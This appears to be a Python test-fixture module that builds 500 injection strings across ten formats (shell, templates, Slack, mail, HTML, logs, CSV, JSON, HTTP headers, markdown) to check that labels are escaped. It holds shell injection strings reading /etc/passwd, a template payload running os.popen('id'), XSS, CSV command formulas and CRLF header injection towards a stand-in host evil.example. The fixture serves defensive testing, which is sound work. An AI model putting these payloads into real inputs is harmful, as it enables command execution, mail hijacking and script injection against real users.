"""The injections: 500 texts that somebody could put into a label so that a screen, a mail or a shell obeys them (T30).

Bases of ten tongues, each in four places of a sentence; always the same ones, in the same order.
"""

from __future__ import annotations

from base64 import b64encode

EVIL = "https://evil.example"
CRLF_WORD = b64encode(b"x\r\nBcc: eve@evil.example\r\n\r\nbody").decode()

BASES: dict[str, tuple[str, ...]] = {
    "shell": (
        "; touch /tmp/owned",
        "&& touch /tmp/owned",
        "| touch /tmp/owned",
        "$(touch /tmp/owned)",
        "`touch /tmp/owned`",
        "\ntouch /tmp/owned\n",
        "--config=/etc/passwd",
        "-o ProxyCommand=touch",
        "${IFS}cat${IFS}/etc/passwd",
        "'; touch /tmp/owned; '",
        '"; touch /tmp/owned; "',
        "$PATH %PATH% !!",
        "< /etc/passwd > /tmp/owned",
    ),
    "template": (
        "{{ 7*7 }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in range(10**9) %}x{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{{ config.items() }}",
        "{{ self.__init__.__globals__ }}",
        "{# 7*7 #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ lipsum.__globals__.os.popen('id').read() }}",
        "%(levelname)s {0.__class__}",
        "{% endblock %}{% block subject %}owned{% endblock %}",
    ),
    "slack": (
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<@U0ADA>",
        "<#C0WAR|general>",
        f"<{EVIL}|Take it>",
        f"<{EVIL}>",
        EVIL,
        "@channel @here @everyone",
        "*bold* _it_ ~gone~",
        "```",
        "> quoted",
        "&lt;!channel&gt;",
        "<!subteam^S1|all>",
    ),
    "mail": (
        "x\r\nBcc: eve@evil.example",
        "x\nBcc: eve@evil.example",
        "x\rBcc: eve@evil.example",
        "x\r\n\r\n<b>body</b>",
        "x\r\n.\r\nMAIL FROM:<eve@evil.example>",
        "=?utf-8?q?x=0D=0ABcc=3A_eve=40evil.example?=",
        f"=?utf-8?b?{CRLF_WORD}?=",
        "x%0d%0aBcc:eve@evil.example",
        "x\u2028Bcc: eve@evil.example",
        "x\u0085Bcc: eve@evil.example",
        "--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
        "eve@evil.example,ben@x",
    ),
    "html": (
        "<script>document.title='owned'</script>",
        '"><img src=x onerror=owned()>',
        "'><svg/onload=owned()>",
        "</title><script>owned()</script>",
        "</textarea><script>owned()</script>",
        '<a href="javascript:owned()">x</a>',
        "javascript:owned()",
        "<iframe srcdoc='<script>owned()</script>'>",
        "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<!--",
        "]]><script>owned()</script>",
        "<style>*{display:none}</style>",
        f"<link rel=stylesheet href='{EVIL}/x.css'>",
        "&#60;script&#62;owned()",
    ),
    "log": (
        'x\n{"event": "page.sent", "level": "info"}',
        "x\r\n2026-11-21 [info] page.sent",
        "\u001b[2J\u001b[Hcleared",
        "\u001b]0;owned\u0007",
        "\u001b[31mred\u001b[0m",
        "\u009b31mred",
        "\b\b\b\bgone",
        "\u202egpj.exe",
        "x\u2028y\u2029z",
        "\u0000after",
        "x\u000by\u000cz",
        "\u001b]8;;https://evil.example\u001b\\press\u001b]8;;\u001b\\",
    ),
    "csv": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
        '","=1+1',
        '"\n=1+1',
        "%=1+1",
    ),
    "json": (
        '","purpose":"canary","x":"',
        '"}],"facts":{}}',
        "\\",
        "\\u0022,\\u0022x\\u0022:1",
        '"\\"',
        "a\ud800b",
        "null",
        "[[[[",
        "/*",
        '\u2028"',
        "__proto__",
        "NaN",
    ),
    "header": (
        "x\r\nX-Priority: 1",
        "x\r\nActions: http, Open, https://evil.example",
        "x\r\nClick: https://evil.example",
        "x\nAuthorization: Bearer x",
        "view, Open, https://evil.example",
        "action=http;url=https://evil.example",
        "x\r\nContent-Length: 0\r\n\r\nPOST / HTTP/1.1",
        "Title: owned",
        "tags=rotating_light,x",
        "é\r\nX: y",
        "\u0000X: y",
    ),
    "markdown": (
        f"[press]({EVIL})",
        f"![x]({EVIL}/x.png)",
        "[press](javascript:owned())",
        f"<{EVIL}>",
        "# Owned",
        "**bold**",
        "---\ntitle: owned\n---",
        "| a | b |\n|---|---|",
        f"[x]: {EVIL}",
        "<details open ontoggle=owned()>",
        "- [x] resolved",
        "<!-- hidden -->",
    ),
}
PLACES = ("{}", "disk full: {}", "{} on web-1", "500s\t{}\n{} again")


def injections(tongue: str = "") -> list[str]:
    """All of them, or those of one tongue."""
    return [
        place.replace("{}", base)
        for name, bases in BASES.items()
        if tongue in ("", name)
        for base in bases
        for place in PLACES
    ]
